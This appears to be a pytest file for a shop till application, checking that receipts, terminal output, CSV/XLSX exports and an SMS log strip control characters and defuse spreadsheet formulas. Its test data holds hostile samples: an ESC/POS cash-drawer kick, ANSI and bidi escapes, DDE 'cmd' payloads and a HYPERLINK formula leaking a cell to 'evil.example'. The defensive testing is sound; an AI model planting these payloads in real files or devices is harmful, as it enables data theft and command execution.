"""Files and bytes going out are safe (DESIGN.md, "Files going out are safe"): data written before
input was checked (set here straight in the tables) never puts a control character on the receipt
printer, the preview or a terminal, and never a live formula or a broken XML file in an export."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from app.adapters.printers import EscposPrinter, PreviewPrinter
from app.models import Member, MemberTag, Sale, SaleLine
from app.safe_text import printable, terminal
from app.services.base import localconfig
from app.services.sales import printing
from app.services.sales.checkout import Cart, CartLine, Tender, checkout
from app.services.sales.receipt import build_receipt, layout
from tests.shop import member, stock_shop

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = "A\x1bp0B"                                     # ESC p 0: kick the cash drawer
ANSI = "\x1b[2J\x1b]0;owned\x07Tea\u202egnp.exe\u2066x\u2069\x9b31m\x7f"
TEA_CLEAN = "[2J]0;ownedTeagnp.exex31m"


def _set(ctx, stmt) -> None:
    with ctx.tx() as t:
        t.s.execute(stmt)


@pytest.fixture
def hostile_sale(ctx):
    """A cash sale to a member whose name (and a line's name) hold control characters."""
    stock_shop(ctx)
    m = member(ctx, phone="13812345678", name="Anna")
    sale = checkout(ctx, Cart((CartLine("COF", 1), CartLine("TEA")), member_id=m.id), [Tender("cash", 20000)])
    _set(ctx, update(Member).where(Member.id == m.id).values(name=HOSTILE))
    sale_id = select(Sale.id).where(Sale.receipt_no == sale.receipt_no).scalar_subquery()
    _set(ctx, update(SaleLine).where(SaleLine.sale_id == sale_id, SaleLine.name.like("Green%")).values(name=ANSI))
    return ctx, sale


def test_the_helpers_remove_controls_bidi_and_surrogates():
    assert printable(HOSTILE) == "Ap0B"
    assert printable("a\tb\r\nc") == "a b c"
    assert printable("x\u202ey\u2067z\ud800\x85w\x00") == "xyz w"
    assert terminal("line 1\n\x1b[31mline 2\t.\x07") == "line 1\n[31mline 2\t."
    assert printable("王芳 Zoë 😀") == "王芳 Zoë 😀"


def test_receipt_bytes_carry_no_escape_from_the_data(hostile_sale):
    ctx, sale = hostile_sale
    receipt = build_receipt(ctx, sale.receipt_no, reprint=True)
    from escpos.printer import Dummy

    def escpos_bytes(r) -> bytes:
        dev = Dummy()
        setting = localconfig.parse_printer_setting("file:/dev/null")
        EscposPrinter(setting, width_chars=32, print_qr=True, device_factory=lambda: dev).print_receipt(
            r, open_drawer=False)
        return dev.output

    out = escpos_bytes(receipt)
    assert b"Ap0B" in out and TEA_CLEAN.encode() in out
    assert b"\x1bp" not in out and b"\x1b[" not in out and b"\x07" not in out  # no drawer kick, no ANSI
    # Byte for byte the receipt of the same sale with the names typed clean: only our own commands.
    typed_clean = replace(receipt, member_name="Ap0B",
                          lines=tuple(replace(x, name=TEA_CLEAN if "Tea" in x.name else x.name)
                                      for x in receipt.lines))
    assert out == escpos_bytes(typed_clean)
    for raw in layout(receipt, 32):
        assert all(ch >= " " and ch != "\x7f" and not "\x80" <= ch <= "\x9f" for ch in raw), raw
        assert not any(ch in raw for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_a_receipt_made_outside_the_database_is_cleaned_too(hostile_sale):
    """The UI's preview dialog may hand over a Receipt it holds: layout and the printer clean it."""
    ctx, sale = hostile_sale
    receipt = replace(build_receipt(ctx, sale.receipt_no), member_name=HOSTILE, cashier="\x1b[1mBob",
                      shop_name="Shop\x1bp0", qr_payload=None)
    preview = PreviewPrinter(width_chars=48)
    preview.print_receipt(receipt, open_drawer=False)
    assert not any("\x1b" in line for line in preview.lines)
    assert any("Ap0B" in line for line in preview.lines)
    from escpos.printer import Dummy

    dev = Dummy()
    setting = localconfig.parse_printer_setting("file:/dev/null")
    EscposPrinter(setting, width_chars=48, print_qr=False, device_factory=lambda: dev).print_receipt(
        receipt, open_drawer=False)
    assert b"\x1bp" not in dev.output and b"Shopp0" in dev.output
    out = printing.print_receipt(receipt, preview, localconfig.TillConfig())
    assert out.ok and not any("\x1b" in line for line in out.preview_lines)


def test_reprint_preview_in_a_terminal_has_no_escape(hostile_sale, tmp_path):
    ctx, sale = hostile_sale
    env = {**os.environ, "SHOPCARE_HOME": str(tmp_path / "clihome"), "PYTHONIOENCODING": "utf-8"}
    env.pop("SHOPCARE_DB", None)
    proc = subprocess.run([sys.executable, "-m", "app", "--db", ctx.db.url, "--lang", "en", "reprint",
                           sale.receipt_no, "--printer", "preview"], cwd=ROOT, env=env, capture_output=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout.decode("utf-8")
    assert "\x1b" not in out and b"\x1b" not in proc.stderr and "\x9b" not in out
    assert "\x07" not in out and "\u202e" not in out
    assert "Ap0B" in out and TEA_CLEAN in out and sale.receipt_no in out


# --- exports: no formula, no broken workbook ---------------------------------------------------
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&C2,"Click for your voucher")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "Esc\x1b[31mName\x07\u202e",
]
# What each reads as once made safe: the same text, control characters and bidi overrides removed.
SHOWN = [n.replace("\x1b", "").replace("\x07", "").replace("\u202e", "") for n in HOSTILE_NAMES]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_members(ctx):
    """Members (each with one purchase, for the RFM export) whose names and tags were written
    before input was checked."""
    stock_shop(ctx)
    ids = []
    for i, _ in enumerate(HOSTILE_NAMES):
        m = member(ctx, phone=f"139001390{i:02d}", name=f"Member {i}")
        checkout(ctx, Cart((CartLine("TEA"),), member_id=m.id), [Tender("cash", 3333)])
        ids.append(m.id)
    for mid, name in zip(ids, HOSTILE_NAMES):
        _set(ctx, update(Member).where(Member.id == mid).values(name=name))
    with ctx.tx() as t:
        t.s.add(MemberTag(member_id=ids[0], tag="=1+2"))
        t.s.add(MemberTag(member_id=ids[1], tag="@x\x1b"))
    return ctx, ids


def _export(kind: str, ctx, path: Path) -> None:
    if kind == "members":
        from app.services.members.member_export import export_members

        export_members(ctx, path)
    else:
        from app.services.analytics.export import export_member_analytics

        export_member_analytics(ctx, path)


@pytest.mark.parametrize("kind", ["members", "rfm"])
def test_csv_export_writes_hostile_text_as_text(hostile_members, tmp_path, kind):
    ctx, ids = hostile_members
    out = tmp_path / f"{kind}.csv"
    _export(kind, ctx, out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    names = {int(r["member_id"]): r["name"] for r in rows}
    for mid, shown in zip(ids, SHOWN):
        cell = names[mid]
        if shown.startswith(FORMULA_START):
            assert cell == "'" + shown       # OWASP: a leading quote, the text itself kept
        else:
            assert cell == shown
    for r in rows:
        for column, value in r.items():
            assert not value.startswith(("=", "@", "\t", "\r")), (column, value)
            assert "\x1b" not in value and "\x07" not in value and "\u202e" not in value
    if kind == "members":
        tags = {int(r["member_id"]): r["tags"] for r in rows}
        assert tags[ids[0]] == "'=1+2" and tags[ids[1]] == "'@x"


@pytest.mark.parametrize("kind", ["members", "rfm"])
def test_xlsx_export_has_no_formula_and_keeps_the_text(hostile_members, tmp_path, kind):
    ctx, ids = hostile_members
    out = tmp_path / f"{kind}.xlsx"
    _export(kind, ctx, out)                # an ESC in a name used to raise IllegalCharacterError
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    by_id = {}
    for row in ws.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
        by_id[row[header.index("member_id")].value] = row[header.index("name")]
    for mid, shown in zip(ids, SHOWN):
        # exactly as typed, as text (an XML reader reads a CR as a LF: XML's own line-end rule)
        assert by_id[mid].value == shown.replace("\r", "\n") and by_id[mid].data_type == "s"
    if kind == "members":
        tags = {row[0].value: row[header.index("tags")].value for row in ws.iter_rows(min_row=2)}
        assert tags[ids[0]] == "=1+2" and tags[ids[1]] == "@x"


def test_csv_text_leaves_numbers_and_phones_alone():
    from app.services.base.export import csv_text

    assert csv_text("-12.50") == "-12.50" and csv_text("+5") == "+5" and csv_text("-3") == "-3"
    assert csv_text("+8613800138000") == "+8613800138000" and csv_text("+86 138 0013 8000") == "+86 138 0013 8000"
    assert csv_text("+86-138") == "'+86-138" and csv_text("-1+2") == "'-1+2" and csv_text("=1") == "'=1"
    assert csv_text("@A1") == "'@A1" and csv_text("王芳") == "王芳" and csv_text("a=b") == "a=b"


def test_the_command_line_prints_no_escape_from_a_name(ctx, tmp_path):
    """Every line the command line prints passes through one filter: here, the list of members
    an ambiguous last four matches, on stderr."""
    a = member(ctx, phone="13800138000", name="Anna")
    member(ctx, phone="13900138000", name="Bob")
    _set(ctx, update(Member).where(Member.id == a.id).values(name="\x1b]0;pwned\x07\x1b[2JAnna\u202e"))
    env = {**os.environ, "SHOPCARE_HOME": str(tmp_path / "clihome"), "PYTHONIOENCODING": "utf-8"}
    env.pop("SHOPCARE_DB", None)
    proc = subprocess.run([sys.executable, "-m", "app", "--db", ctx.db.url, "--lang", "en", "report", "statement",
                           "8000"], cwd=ROOT, env=env, capture_output=True, timeout=120)
    err = proc.stderr.decode("utf-8")
    assert proc.returncode == 2 and "matches 2 members" in err
    assert "]0;pwned[2JAnna" in err and "Bob" in err
    assert "\x1b" not in err and "\x07" not in err and "\u202e" not in err


def test_the_outbox_log_gets_one_clean_line_per_text(tmp_path):
    from app.adapters.sms import LogGateway

    log = tmp_path / "outbox.log"
    LogGateway(file=log).send("+8613800138000", "Dear \x1b[2J\x1b]0;x\x07Anna\u202e,\r\nthanks\rbye")
    text = log.read_text(encoding="utf-8")
    assert text.count("\n") == 1 and "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "Dear [2J]0;xAnna, / thanks bye" in text and "138****8000" in text
